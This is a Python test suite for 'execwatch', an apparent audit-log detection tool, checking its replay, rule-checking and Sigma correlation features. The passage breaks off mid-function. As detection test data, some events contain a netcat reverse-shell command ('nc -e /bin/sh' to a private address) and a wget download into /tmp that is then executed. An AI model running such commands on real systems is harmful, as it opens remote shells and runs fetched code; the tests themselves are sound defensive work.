"""End-to-end tests of `execwatch replay` and `execwatch rules` (run by `make test`).

Each test runs the real binary on real input (audit logs captured from this kind of kernel, the
shipped rules) and checks what a user sees: JSON lines on stdout, diagnostics on stderr, the exit
status. Prints `N passed, N failed` last.
"""
import atexit
import json
import re
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
import traceback

BUILT = os.path.abspath(sys.argv[1] if len(sys.argv) > 1 else ".build/debug/execwatch")
# Run a private copy, so a rebuild during the run cannot swap the binary under the tests.
BIN = os.path.join(tempfile.mkdtemp(prefix="execwatch-cli-"), "execwatch")
shutil.copy2(BUILT, BIN)
atexit.register(shutil.rmtree, os.path.dirname(BIN), True)
ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
FIXTURE = os.path.join(ROOT, "Tests/Fixtures/audit/captured-debian12.log")
RULES = os.path.join(ROOT, "rules")
NETCATS = {"nc", "ncat", "netcat", "netcat.openbsd", "netcat.traditional"}


def run(*args, stdin=None, check_status=None):
    proc = subprocess.run([BIN, *args], input=stdin, capture_output=True)
    if check_status is not None and proc.returncode != check_status:
        raise AssertionError(f"{args}: exit {proc.returncode}, expected {check_status}\nstderr: {proc.stderr.decode(errors='replace')[-2000:]}")
    return proc


def json_lines(data):
    return [json.loads(line) for line in data.decode().splitlines() if line.strip()]


def test_replay_fixture_gives_one_incident_per_netcat_group():
    events = json_lines(run("replay", FIXTURE, "--emit", "events", "--host", "web-1", check_status=0).stdout)
    incidents = json_lines(run("replay", FIXTURE, "--host", "web-1", check_status=0).stdout)
    # Expected groups computed here from the events, by the rule's own definition.
    groups = {}
    for e in events:
        if e["eventType"] == "LINUX_PROCESS_EXEC" and e.get("procName", "").lower() in NETCATS:
            key = (e["hostName"], e.get("user"), e["procName"], e.get("swParam"))
            groups.setdefault(key, []).append(e)
    assert len(groups) >= 7, groups.keys()
    # The rule names netcat.openbsd, not Debian's nc.openbsd binary: run by that name, it is not matched.
    assert any(e.get("procName") == "nc.openbsd" for e in events)
    got = {(i["attributes"]["hostName"], i["attributes"]["user"], i["attributes"]["procName"], i["attributes"]["swParam"]): i for i in incidents}
    assert set(got) == set(groups), (set(got) ^ set(groups))
    for key, members in groups.items():
        inc = got[key]
        assert inc["ruleId"] == "PH_Rule_TH_Linux_23"
        assert inc["ruleName"] == "Linux: Netcat Process Activity"
        assert inc["severity"] == 7 and inc["category"] == "Security"
        assert inc["techniques"] == ["T1059.004"], inc["techniques"]
        assert inc["hostName"] == "web-1"
        # The fixture's runs of one group are seconds apart: well inside the 300 s window.
        assert inc["count"] == len(members), (key, inc["count"], len(members))
        assert inc["firstSeen"] == min(m["eventTime"] for m in members)
        assert inc["lastSeen"] == max(m["eventTime"] for m in members)
        assert inc["version"] == len(members)
        assert inc["triggerEvents"][0]["procName"] == key[2]
    assert not any(i["attributes"]["procName"] == "true" for i in incidents)


def test_replay_events_have_design_attributes():
    events = json_lines(run("replay", FIXTURE, "--emit", "events", "--host", "h", check_status=0).stdout)
    nc = next(e for e in events if e.get("procName") == "nc" and e.get("swParam") == "-h")
    for key in ["eventType", "eventTime", "hostName", "user", "procName", "swParam", "procId", "parentProcId",
                "exePath", "cwd", "uid", "auid", "args"]:
        assert key in nc, key
    assert nc["exePath"] == "/usr/bin/nc.openbsd"
    assert nc["args"] == ["nc", "-h"]
    assert nc["eventTime"].endswith("Z") and len(nc["eventTime"]) == 24


def test_replay_summary_and_both_mode():
    proc = run("replay", FIXTURE, "--emit", "both", "--host", "h", check_status=0)
    lines = json_lines(proc.stdout)
    kinds = {("incident" if "incidentId" in l else "event") for l in lines}
    assert kinds == {"incident", "event"}
    summary = proc.stderr.decode()
    assert "records" in summary and "events" in summary and "failed execs" in summary
    assert "malformed lines" in summary and "incidents" in summary


def test_replay_reads_stdin_and_equals_file():
    with open(FIXTURE, "rb") as f:
        data = f.read()
    from_stdin = run("replay", "-", "--host", "h", stdin=data, check_status=0).stdout
    no_arg = run("replay", "--host", "h", stdin=data, check_status=0).stdout
    from_file = run("replay", FIXTURE, "--host", "h", check_status=0).stdout
    assert from_stdin == from_file == no_arg
    assert len(from_file) > 0


def test_malformed_lines_are_reported_with_line_numbers_and_lose_nothing():
    with open(FIXTURE, "rb") as f:
        lines = f.read().split(b"\n")
    damaged = lines[:10] + [b"garbage line", b"type=SYSCALL msg=audit(oops"] + lines[10:]
    clean = run("replay", FIXTURE, "--emit", "events", "--host", "h", check_status=0)
    proc = run("replay", "-", "--emit", "events", "--host", "h", stdin=b"\n".join(damaged), check_status=0)
    assert proc.stdout == clean.stdout
    err = proc.stderr.decode()
    assert "<stdin>:11:" in err and "<stdin>:12:" in err, err
    assert "2 malformed lines" in err, err


def test_hostile_timestamps_are_malformed_lines_not_a_crash():
    # 19 digits of seconds used to trap (exit 132); years past 9999 and Int64.max seconds too.
    with open(FIXTURE, "rb") as f:
        lines = f.read().split(b"\n")
    hostile = [
        b"type=SYSCALL msg=audit(9999999999999999999.123:5): arch=c000003e syscall=59 success=yes pid=1",
        b"type=EXECVE msg=audit(9223372036854775807.000:6): argc=1 a0=\"nc\"",
        b"type=SYSCALL msg=audit(253402300800.000:7): arch=c000003e syscall=59 success=yes pid=1",
    ]
    clean = run("replay", FIXTURE, "--emit", "events", "--host", "h", check_status=0)
    proc = run("replay", "-", "--emit", "events", "--host", "h", stdin=b"\n".join(lines[:3] + hostile + lines[3:]))
    assert proc.returncode == 0, (proc.returncode, proc.stderr.decode(errors="replace")[-2000:])
    assert proc.stdout == clean.stdout
    err = proc.stderr.decode()
    for number in (4, 5, 6):
        assert f"<stdin>:{number}: malformed audit record" in err, err
    assert err.count("1970-01-01T00:00:00Z to 9999-12-31") >= 3, err
    assert "3 malformed lines" in err, err


def test_rules_test_refuses_event_times_out_of_range_by_line():
    data = b'{"eventTime": 1e300}\n{"eventTime": 9223372036854775807}\n{"eventTime": "nan"}\n{"eventTime": 0, "procName": "nc"}\n'
    proc = run("rules", "test", "--events", "-", stdin=data)
    assert proc.returncode == 1, (proc.returncode, proc.stderr.decode(errors="replace")[-2000:])
    err = proc.stderr.decode()
    for number in (1, 2, 3):
        assert f"<stdin>:{number}:" in err, err
    assert err.count("eventTime") >= 3 and "out of range" in err, err
    assert len(json_lines(proc.stdout)) == 1


def test_binary_garbage_does_not_crash():
    garbage = bytes(range(256)) * 64 + b"\ntype=EXECVE msg=audit(1.1:1): argc=99999999 a0=\xff\xfe\n" + b"\x00" * 5000
    proc = run("replay", "-", "--host", "h", stdin=garbage)
    assert proc.returncode == 0, proc.stderr


def test_host_defaults_to_this_hosts_name():
    events = json_lines(run("replay", FIXTURE, "--emit", "events", check_status=0).stdout)
    assert {e["hostName"] for e in events} == {os.uname().nodename}


def test_missing_file_is_exit_1_and_usage_error_is_exit_2():
    proc = run("replay", "/nonexistent/audit.log")
    assert proc.returncode == 1 and b"/nonexistent/audit.log" in proc.stderr
    assert run("replay", FIXTURE, "--emit", "nonsense").returncode == 2
    assert run("no-such-command").returncode == 2
    assert run("--help").returncode == 0


def test_replay_help_and_usage_errors_name_the_whole_command():
    # replay parses its own arguments first (start-up); help and errors still come from the root.
    help_text = run("replay", "--help", check_status=0).stdout.decode()
    assert help_text.startswith("OVERVIEW: Replay an audit log") and "USAGE: execwatch replay" in help_text
    assert run("help", "replay", check_status=0).stdout.decode() == help_text
    bad = run("replay", FIXTURE, "--no-such-option")
    assert bad.returncode == 2 and b"Unknown option '--no-such-option'" in bad.stderr
    assert b"Usage: execwatch replay" in bad.stderr
    assert run("replay", "--version", check_status=0).stdout.strip() == b"0.4.0"


def run_replay_with(parser, args, stdin):
    """replay parsed as EXECWATCH_REPLAY_PARSER says: argument-parser, hand (status 3 when the hand
    parser does not take the arguments) or None (the shipped choice: by hand, else ArgumentParser)."""
    env = dict(os.environ)
    env.pop("EXECWATCH_REPLAY_PARSER", None)
    if parser:
        env["EXECWATCH_REPLAY_PARSER"] = parser
    proc = subprocess.run([BIN, "replay", *args], input=stdin, capture_output=True, env=env)
    return proc.returncode, proc.stdout, proc.stderr


def test_replay_parses_its_arguments_by_hand_exactly_as_argument_parser_does():
    with open(FIXTURE, "rb") as f:
        data = f.read()
    netcat = os.path.join(RULES, "PH_Rule_TH_Linux_23.xml")
    # Forms the hand parser takes: it must give what ArgumentParser gives.
    taken = [
        [FIXTURE], [FIXTURE, "--host", "h"], ["--host", "h", FIXTURE], ["--host=h", FIXTURE, "--emit=events"],
        [FIXTURE, "--emit", "both", "--host", "a", "--host", "b"], [FIXTURE, "--emit", "events", "--emit", "incidents"],
        [FIXTURE, "--rules", RULES, "--rules", netcat, "--host", "h"], ["--rules=" + netcat, FIXTURE, "--host", "h"],
        [FIXTURE, "--agent-id", "agent-7", "--host", "h"], ["--agent-id=a=b", "--host", "h", FIXTURE],
        [FIXTURE, "--grace-milliseconds", "0", "--host", "h"], ["--grace-milliseconds=-5", FIXTURE, "--host", "h"],
        [FIXTURE, "--grace-milliseconds", "+5", "--host", "h"], [FIXTURE, "--grace-milliseconds", "05", "--host", "h"],
        [FIXTURE, "--threads", "1", "--host", "h"], [FIXTURE, "--threads=2", "--host", "h"],
        [FIXTURE, "--threads", "01", "--host", "h"],
        ["--", FIXTURE], [FIXTURE, "--"],
        ["--host", "h", "--", FIXTURE], ["-", "--host", "h"], ["--host", "h"], ["--host", "-", FIXTURE],
        ["--host=-x", FIXTURE, "--emit", "events"], ["--", "-x"], ["/nonexistent/audit.log"],
        [FIXTURE, "--rules", "/nonexistent/rules"], [FIXTURE, "--rules", "-"], ["help"],
    ]
    # Forms it passes on: ArgumentParser's help and errors, unchanged.
    passed_on = [
        [FIXTURE, FIXTURE], [FIXTURE, "--host"], [FIXTURE, "--host="], [FIXTURE, "--host", "-x"],
        [FIXTURE, "--emit", "Events"], [FIXTURE, "--grace-milliseconds", "x"],
        [FIXTURE, "--grace-milliseconds", "99999999999999999999"], [FIXTURE, "--threads", "3"],
        [FIXTURE, "--threads", "0"], ["--threads=two", FIXTURE], [FIXTURE, "--no-such-option"], ["-x"], ["-h"],
        ["--help"], ["--version"], [FIXTURE, "--", "--host"], [""], ["--", "--"], [FIXTURE, "--rules"],
        [FIXTURE, "-host", "h"], [FIXTURE, "--Host", "h"], [FIXTURE, "--rules", "--host", "h"],
    ]
    for args in taken + passed_on:
        expected = run_replay_with("argument-parser", args, data)
        shipped = run_replay_with(None, args, data)
        assert shipped == expected, (args, shipped[0], expected[0], shipped[2][-500:], expected[2][-500:])
        by_hand = run_replay_with("hand", args, data)
        if args in taken:
            assert by_hand == expected, (args, by_hand[0], by_hand[2][-500:])
        else:
            assert by_hand[0] == 3 and b"hand parser does not take" in by_hand[2], (args, by_hand)
    # The forms cover what they should: successes, usage errors (2), unreadable input (1), help.
    statuses = {run_replay_with(None, args, data)[0] for args in taken + passed_on}
    assert statuses == {0, 1, 2}, statuses
    assert b"--threads must be 1 or 2" in run_replay_with(None, [FIXTURE, "--threads", "3"], data)[2]


def replay_logs():
    """Every audit log the project has: the captured fixture, the public corpora."""
    corpora = os.path.join(ROOT, "..", "shared", "corpora")
    logs = [FIXTURE]
    for name in ("audit-userspace", "go-libaudit", "laurel"):
        directory = os.path.join(corpora, name)
        if not os.path.isdir(directory):
            raise AssertionError(f"the corpus is missing: {directory} (a clone of the project sits beside shared/)")
        logs += sorted(os.path.join(directory, f) for f in os.listdir(directory) if f.endswith((".log", ".txt")))
    return logs


def repeated_fixture(path, copies):
    """The fixture `copies` times over, each copy with its own serials and times (as a longer
    capture would have), a few malformed and blank lines between copies."""
    with open(FIXTURE, "rb") as f:
        data = f.read()
    pattern = re.compile(rb"msg=audit\((\d+)\.(\d+):(\d+)\)")
    with open(path, "wb") as f:
        for copy in range(copies):
            shift = lambda m: b"msg=audit(%d.%s:%d)" % (int(m.group(1)) + 10 * copy, m.group(2), int(m.group(3)) + 100000 * copy)
            f.write(pattern.sub(shift, data))
            f.write(b"garbage line %d\n\ntype=SYSCALL msg=audit(oops\ntype=EXECVE msg=audit(1.1\n" % copy * 3)


def test_replay_prints_the_same_on_one_thread_and_on_two():
    def replay(args, threads, stdin=None):
        proc = subprocess.run([BIN, "replay", *args, "--threads", str(threads)], input=stdin, capture_output=True)
        return proc.returncode, proc.stdout, proc.stderr

    def same(args, stdin=None, status=0):
        one, two = replay(args, 1, stdin), replay(args, 2, stdin)
        assert one == two, (args, one[0], two[0], one[2][-800:], two[2][-800:])
        assert one[0] == status, (args, one[0], one[2][-800:])
        return one

    compared = 0
    with tempfile.TemporaryDirectory() as d:
        long_log = os.path.join(d, "long.log")
        repeated_fixture(long_log, 3)  # 3.7 MB: many batches, pages handed back on the way
        too_long = os.path.join(d, "too-long.log")
        with open(FIXTURE, "rb") as f:
            head = f.read(200_000)
        with open(too_long, "wb") as f:
            f.write(head + b"\n" + b"x" * (2 << 20) + b"\n" + head)
        empty = os.path.join(d, "empty.log")
        open(empty, "wb").close()
        for log in replay_logs() + [long_log, too_long, empty]:
            # `both` prints the events and the incidents; `events` alone runs without rules.
            for emit in ("incidents", "both") + (("events",) if log == FIXTURE else ()):
                same([log, "--emit", emit, "--host", "h"])
                compared += 1
        # The Sigma corpus (its notes on stderr come first), standard input, an unreadable input.
        out = same([long_log, "--host", "h", "--rules", RULES, "--rules", sigma_corpus()])
        assert len(json_lines(out[1])) > 7 and b"malformed lines" in out[2]
        with open(long_log, "rb") as f:
            piped = same(["-", "--emit", "both", "--host", "h"], stdin=f.read())
        assert b"<stdin>:" in piped[2] and b"more malformed lines" in piped[2], piped[2][-800:]
        same([d, "--host", "h"], status=1)  # a directory: read(2) fails
        same(["/nonexistent/audit.log", "--host", "h"], status=1)
        same([FIXTURE, "--host", "h", "--rules", "/nonexistent/rules"], status=2)
        compared += 6
    assert compared > 50, compared


def test_replay_binds_its_two_threads_to_two_cpus_of_those_allowed():
    """Two threads: the main one on the CPU it started on, the reading one on another allowed CPU
    (unbound, the scheduler packs them onto one CPU for long spells). One allowed CPU: both on it."""
    def cpus_of_replay_threads(prefix):
        with tempfile.TemporaryDirectory() as d:
            fifo = os.path.join(d, "log")
            os.mkfifo(fifo)
            proc = subprocess.Popen(prefix + [BIN, "replay", fifo, "--host", "h", "--threads", "2"],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            # Opening the FIFO for writing lets replay open it; held open, replay waits for lines.
            writer = open(fifo, "wb")
            try:
                tasks = f"/proc/{proc.pid}/task"
                deadline = time.time() + 10
                while True:
                    lists = []
                    for tid in os.listdir(tasks):
                        with open(f"{tasks}/{tid}/status") as f:
                            lists += [l.split(":", 1)[1].strip() for l in f if l.startswith("Cpus_allowed_list:")]
                    if len(lists) == 2 and all(re.fullmatch(r"\d+", c) for c in lists) or time.time() > deadline:
                        break
                    time.sleep(0.05)
            finally:
                writer.close()
            assert proc.wait(timeout=30) == 0, proc.stderr.read()[-800:]
            return sorted(int(c) if re.fullmatch(r"\d+", c) else c for c in lists)

    allowed = sorted(os.sched_getaffinity(0))
    assert len(allowed) >= 2, f"this test needs two CPUs, the machine gives {allowed}"
    bound = cpus_of_replay_threads([])
    assert len(bound) == 2 and bound[0] != bound[1] and set(bound) <= set(allowed), bound
    one = allowed[-1]
    assert cpus_of_replay_threads(["taskset", "-c", str(one)]) == [one, one]


def test_rules_check_accepts_shipped_and_rejects_bad_with_position():
    ok = run("rules", "check", RULES, check_status=0)
    assert b"1 rule(s) loaded" in ok.stdout or b"rule(s) loaded" in ok.stdout
    with tempfile.TemporaryDirectory() as d:
        bad = os.path.join(d, "bad.xml")
        with open(bad, "w") as f:
            f.write('<Rules>\n<Rule id="X1">\n  <Name>x</Name><IncidentDef eventType="X1" severity="5"/>\n  <PatternClause window="60">\n'
                    '    <SubPattern name="F">\n      <SingleEvtConstr>procName FROB "nc"</SingleEvtConstr>\n'
                    '      <GroupByAttr>hostName</GroupByAttr>\n      <GroupEvtConstr>COUNT(*) &gt;= 1</GroupEvtConstr>\n'
                    '    </SubPattern>\n  </PatternClause>\n</Rule>\n</Rules>\n')
        proc = run("rules", "check", bad)
        assert proc.returncode == 2, proc.returncode
        err = proc.stderr.decode()
        # Line 6, at the unknown operator: `      <SingleEvtConstr>procName FROB` → column 33.
        assert f"{bad}:6:33:" in err, err
        # Replay with a bad rule next to the good ones: the good rules still run.
        proc = run("replay", FIXTURE, "--rules", RULES, "--rules", bad, "--host", "h", check_status=0)
        assert f"{bad}:6:" in proc.stderr.decode()
        assert len(json_lines(proc.stdout)) >= 7
        # Only bad rules: nothing to run, exit 2.
        assert run("replay", FIXTURE, "--rules", bad).returncode == 2


def test_rules_check_warns_about_an_attribute_no_source_produces_and_strict_refuses_it():
    with tempfile.TemporaryDirectory() as d:
        typo = os.path.join(d, "typo.xml")
        with open(os.path.join(RULES, "PH_Rule_TH_Linux_23.xml")) as f:
            shipped = f.read()
        assert shipped.count("procName IN (") == 1
        with open(typo, "w") as f:
            f.write(shipped.replace("procName IN (", "procNam IN ("))
        line = next(n for n, text in enumerate(shipped.splitlines(), 1) if "procName IN (" in text)
        column = shipped.splitlines()[line - 1].index("procName IN (") + 1
        proc = run("rules", "check", typo, check_status=0)
        err = proc.stderr.decode()
        assert f'{typo}:{line}:{column}: warning: no source produces attribute "procNam"' in err, err
        assert 'did you mean "procName"?' in err, err
        assert b"1 rule(s) loaded, 0 error(s), 1 warning(s)" in proc.stdout, proc.stdout
        proc = run("rules", "check", "--strict", typo, check_status=2)
        assert f"{typo}:{line}:{column}: warning:" in proc.stderr.decode()
        assert b"1 warning(s) (--strict)" in proc.stderr, proc.stderr
        # The shipped rules are clean under --strict; the other commands say the same warning.
        run("rules", "check", "--strict", RULES, check_status=0)
        proc = run("rules", "list", "--rules", typo, check_status=0)
        assert f"{typo}:{line}:{column}: warning:" in proc.stderr.decode(), proc.stderr


def test_audit_restore_without_a_record_does_nothing_and_a_bad_record_is_named():
    with tempfile.TemporaryDirectory() as d:
        said = run("audit", "restore", "--state-dir", os.path.join(d, "missing"), check_status=0).stdout.decode()
        assert "no state directory" in said and "no audit state to restore" in said, said
        assert not os.path.exists(os.path.join(d, "missing"))
        state = os.path.join(d, "state")
        os.mkdir(state, 0o700)
        said = run("audit", "restore", "--state-dir", state, check_status=0).stdout.decode()
        assert "no audit state record" in said and "nothing to restore" in said, said
        record = os.path.join(state, "audit-state")
        with open(record, "w") as f:
            f.write("boot_id 1\nenable 0\n")
        os.chmod(record, 0o600)
        error = run("audit", "restore", "--state-dir", state, check_status=1).stderr.decode()
        assert f"{record}:2: unknown setting \"enable\"" in error, error
        assert os.path.exists(record)  # kept for a human to look at


def test_rules_list():
    out = run("rules", "list", check_status=0).stdout.decode()
    assert "PH_Rule_TH_Linux_23" in out and "Linux: Netcat Process Activity" in out
    listed = json_lines(run("rules", "list", "--json", check_status=0).stdout)
    assert listed[0]["ruleId"] == "PH_Rule_TH_Linux_23" and listed[0]["window"] == 300


SIGMA_CORPUS = os.path.join(ROOT, "..", "shared", "corpora", "sigma", "rules")


def sigma_corpus():
    if not os.path.isdir(SIGMA_CORPUS):
        raise AssertionError(f"the Sigma corpus is missing: {SIGMA_CORPUS} (a clone of the project sits beside shared/)")
    return SIGMA_CORPUS


def test_rules_check_over_the_sigma_corpus_loads_or_refuses_each_with_its_place():
    corpus = sigma_corpus()
    files = sorted(f for f in os.listdir(corpus) if f.endswith(".yml"))
    assert len(files) == 144, len(files)
    proc = run("rules", "check", corpus)
    err = proc.stderr.decode()
    summary = re.search(r"(\d+) rule\(s\) loaded, (\d+) error\(s\)", err + proc.stdout.decode())
    assert summary, err[-2000:]
    loaded, refused = int(summary.group(1)), int(summary.group(2))
    assert loaded >= 130 and loaded + refused == 144, (loaded, refused, err[-3000:])
    assert proc.returncode == (2 if refused else 0)
    for line in err.splitlines():
        if line.startswith("execwatch:"):
            continue
        # every refusal names the file, line and column and the construct
        assert re.match(r"^/.+\.yml:\d+:\d+: \S", line), line


def test_rules_list_shows_sigma_rules_with_author_and_source():
    d = tempfile.mkdtemp(prefix="execwatch-sigma-")
    try:
        shutil.copy(os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml"), d)
        with open(os.path.join(d, ".sigma-source"), "w") as f:
            f.write("https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/\n")
        with open(os.path.join(d, "other.yml"), "w") as f:
            f.write("title: t\nid: x1\nlogsource: {product: windows, category: process_creation}\n"
                    "detection: {sel: {Image: x}, condition: sel}\n")
        proc = run("rules", "list", "--json", "--rules", d, "--rules", RULES, check_status=0)
        listed = {r["ruleId"]: r for r in json_lines(proc.stdout)}
        sigma = listed["7f734ed0-4f47-46c0-837f-6ee62505abd9"]
        assert sigma["source"] == ("https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/"
                                   "proc_creation_lnx_netcat_reverse_shell.yml"), sigma
        assert sigma["author"] and sigma["severity"] == 7 and sigma["window"] == 300, sigma
        assert "PH_Rule_TH_Linux_23" in listed and "source" not in listed["PH_Rule_TH_Linux_23"]
        assert "other.yml:3:12: note: skipped: logsource is category process_creation, product windows" in proc.stderr.decode()
        table = run("rules", "list", "--rules", d, check_status=0).stdout.decode()
        assert "github.com/SigmaHQ" in table.splitlines()[1], table
    finally:
        shutil.rmtree(d, True)


def test_rules_test_raises_a_sigma_rule_on_a_netcat_reverse_shell():
    rule = os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml")
    events = "\n".join(json.dumps({
        "eventType": "LINUX_PROCESS_EXEC", "eventTime": f"2026-11-28T10:00:0{k}Z", "hostName": "h", "user": "alice",
        "procName": "nc.openbsd", "swParam": "-e /bin/sh 10.0.0.1 4444", "invokedPath": "/usr/bin/nc",
        "exePath": "/usr/bin/nc.openbsd", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}) for k in range(2)) + "\n"
    out = run("rules", "test", "--events", "-", "--rules", rule, stdin=events.encode(), check_status=0)
    incidents = json_lines(out.stdout)
    assert len(incidents) == 1 and incidents[0]["ruleId"] == "7f734ed0-4f47-46c0-837f-6ee62505abd9", incidents
    assert incidents[0]["count"] == 2 and incidents[0]["severity"] == 7, incidents


def test_rules_test_runs_a_sigma_correlation_over_a_corpus_rule():
    """An event_count correlation written here over the corpus's netcat reverse-shell rule (by id,
    in another file): three matches by one user within a minute raise it, two by another do not,
    and the correlated rule raises nothing of its own (generate defaults to false)."""
    d = tempfile.mkdtemp(prefix="execwatch-correlation-")
    try:
        correlation = os.path.join(d, "repeated-reverse-shell.yml")
        with open(correlation, "w") as f:
            f.write("title: Repeated netcat reverse shells\nid: 0c0c0c0c-1111-2222-3333-444444444444\n"
                    "author: execwatch tests\nlevel: critical\ncorrelation:\n    type: event_count\n"
                    "    rules:\n        - 7f734ed0-4f47-46c0-837f-6ee62505abd9\n    group-by:\n        - User\n"
                    "    timespan: 1m\n    condition:\n        gte: 3\n")
        base = os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml")
        events = "\n".join(json.dumps({
            "eventType": "LINUX_PROCESS_EXEC", "eventTime": f"2026-11-28T10:00:{k:02d}Z", "hostName": "h", "user": user,
            "procName": "nc.openbsd", "swParam": f"-e /bin/sh 10.0.0.1 {4440 + k}", "invokedPath": "/usr/bin/nc",
            "exePath": "/usr/bin/nc.openbsd", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", str(4440 + k)]})
            for k, user in enumerate(["alice", "bob", "alice", "bob", "alice"])) + "\n"
        out = run("rules", "test", "--events", "-", "--rules", base, "--rules", correlation,
                  stdin=events.encode(), check_status=0)
        incidents = json_lines(out.stdout)
        assert [i["ruleId"] for i in incidents] == ["0c0c0c0c-1111-2222-3333-444444444444"], incidents
        assert incidents[0]["attributes"]["user"] == "alice" and incidents[0]["severity"] == 9, incidents
        assert incidents[0]["ruleAuthor"] == "execwatch tests", incidents
        # a correlation naming a rule that is not loaded is refused with its place
        proc = run("rules", "check", correlation)
        assert proc.returncode == 2, proc
        assert (f"{correlation}:8:11: correlation 0c0c0c0c-1111-2222-3333-444444444444: no loaded Sigma "
                "process_creation rule has the name or id '7f734ed0-4f47-46c0-837f-6ee62505abd9'") in proc.stderr.decode()
    finally:
        shutil.rmtree(d, True)


def test_rules_test_runs_a_sigma_temporal_correlation_over_two_corpus_rules():
    """A temporal correlation written here over two corpus rules (by id, in other files): a wget
    download into /tmp and an execution from /tmp by one user within 5 minutes raise it; one of
    them alone, or both 6 minutes apart, do not; the two rules raise nothing of their own."""
    d = tempfile.mkdtemp(prefix="execwatch-temporal-")
    try:
        correlation = os.path.join(d, "download-then-run.yml")
        with open(correlation, "w") as f:
            f.write("title: Download to /tmp, then run from /tmp\nid: 0c0c0c0c-1111-2222-3333-555555555555\n"
                    "author: execwatch tests\nlevel: high\ncorrelation:\n    type: temporal\n"
                    "    rules:\n        - cf610c15-ed71-46e1-bdf8-2bd1a99de6c4\n"
                    "        - 312b42b1-bded-4441-8b58-163a3af58775\n"
                    "    group-by:\n        - User\n    timespan: 5m\n")
        corpus = sigma_corpus()
        wget_rule = os.path.join(corpus, "proc_creation_lnx_wget_download_suspicious_directory.yml")
        tmp_rule = os.path.join(corpus, "proc_creation_lnx_susp_execution_tmp_folder.yml")

        def wget(time, user):
            args = ["wget", "-O", "/tmp/x", "http://198.51.100.7/x"]
            return {"eventType": "LINUX_PROCESS_EXEC", "eventTime": time, "hostName": "h", "user": user,
                    "procName": "wget", "swParam": " ".join(args[1:]), "invokedPath": "/usr/bin/wget",
                    "exePath": "/usr/bin/wget", "args": args}

        def run_tmp(time, user):
            return {"eventType": "LINUX_PROCESS_EXEC", "eventTime": time, "hostName": "h", "user": user,
                    "procName": "x", "swParam": "", "invokedPath": "/tmp/x", "exePath": "/tmp/x", "args": ["/tmp/x"]}

        events = [wget("2026-11-28T10:00:00Z", "alice"), wget("2026-11-28T10:00:00Z", "carol"),
                  run_tmp("2026-11-28T10:00:05Z", "bob"), run_tmp("2026-11-28T10:01:00Z", "alice"),
                  run_tmp("2026-11-28T10:06:00Z", "carol")]
        out = run("rules", "test", "--events", "-", "--rules", wget_rule, "--rules", tmp_rule, "--rules", correlation,
                  stdin=("\n".join(json.dumps(e) for e in events) + "\n").encode(), check_status=0)
        incidents = json_lines(out.stdout)
        assert [i["ruleId"] for i in incidents] == ["0c0c0c0c-1111-2222-3333-555555555555"], incidents
        incident = incidents[0]
        assert incident["attributes"] == {"hostName": "h", "user": "alice"}, incident
        assert incident["count"] == 2 and incident["severity"] == 7, incident
        assert incident["firstSeen"] == "2026-11-28T10:00:00.000Z", incident
        assert incident["lastSeen"] == "2026-11-28T10:01:00.000Z", incident
        assert incident["ruleAuthor"] == "execwatch tests", incident
        # temporal_ordered with a condition asking for fewer than all its rules is refused with its place
        with open(correlation, "w") as f:
            f.write("title: t\nid: 0c0c0c0c-1111-2222-3333-555555555555\ncorrelation:\n    type: temporal_ordered\n"
                    "    rules:\n        - cf610c15-ed71-46e1-bdf8-2bd1a99de6c4\n"
                    "        - 312b42b1-bded-4441-8b58-163a3af58775\n"
                    "    timespan: 5m\n    condition:\n        gte: 1\n")
        proc = run("rules", "check", wget_rule, tmp_rule, correlation)
        assert proc.returncode == 2, proc
        assert (f"{correlation}:10:9: condition 'gte: 1' is not supported: a temporal_ordered correlation "
                "needs all 2 rules in their order") in proc.stderr.decode(), proc.stderr.decode()
    finally:
        shutil.rmtree(d, True)


def test_rules_test_with_json_events():
    events = [
        {"eventTime": "2026-11-28T10:00:00.000Z", "hostName": "web-1", "user": "alice", "procName": "nc", "swParam": "-l 4444"},
        {"eventTime": 1795860010, "hostName": "web-1", "user": "alice", "procName": "NC", "swParam": "-l 4444"},
        {"eventTime": 1795860020, "hostName": "web-1", "user": "alice", "procName": "nc", "swParam": "-l 4444"},
        {"eventTime": 1795860030, "hostName": "web-1", "user": "bob", "procName": "ncat", "swParam": ""},
        {"eventTime": 1795860040, "hostName": "web-1", "user": "bob", "procName": "true", "swParam": ""},
        {"eventTime": 1795860050, "eventType": "LINUX_FILE_OPEN", "hostName": "web-1", "user": "bob", "procName": "nc"},
    ]
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl", delete=False) as f:
        f.write("\n".join(json.dumps(e) for e in events) + "\n")
        path = f.name
    try:
        incidents = json_lines(run("rules", "test", "--events", path, check_status=0).stdout)
    finally:
        os.unlink(path)
    by_user = {i["attributes"]["user"] + "/" + i["attributes"]["procName"]: i for i in incidents}
    # "NC" matches IN case-insensitively but is its own group value (procName is grouped as written).
    assert set(by_user) == {"alice/nc", "alice/NC", "bob/ncat"}, set(by_user)
    assert by_user["alice/nc"]["count"] == 2
    assert by_user["alice/nc"]["firstSeen"] == "2026-11-28T10:00:00.000Z"
    assert by_user["alice/nc"]["lastSeen"] == "2026-11-28T10:00:20.000Z"


def test_rules_test_reports_bad_lines():
    data = b'{"eventTime": 0, "procName": "nc"}\n{"eventTime": \n{"procName": "nc"}\n'
    proc = run("rules", "test", "--events", "-", stdin=data)
    assert proc.returncode == 1
    err = proc.stderr.decode()
    assert "<stdin>:2:" in err and "<stdin>:3:" in err and "eventTime" in err, err
    assert len(json_lines(proc.stdout)) == 1


def test_replay_memory_does_not_grow_with_input_size():
    with open(FIXTURE, "rb") as f:
        data = f.read()
    with tempfile.TemporaryDirectory() as d:
        small, large = os.path.join(d, "small.log"), os.path.join(d, "large.log")
        with open(small, "wb") as f:
            f.write(data)
        # 30 copies, each with its own serials and times, as a longer capture would have.
        pattern = re.compile(rb"msg=audit\((\d+)\.(\d+):(\d+)\)")
        with open(large, "wb") as f:
            for copy in range(30):
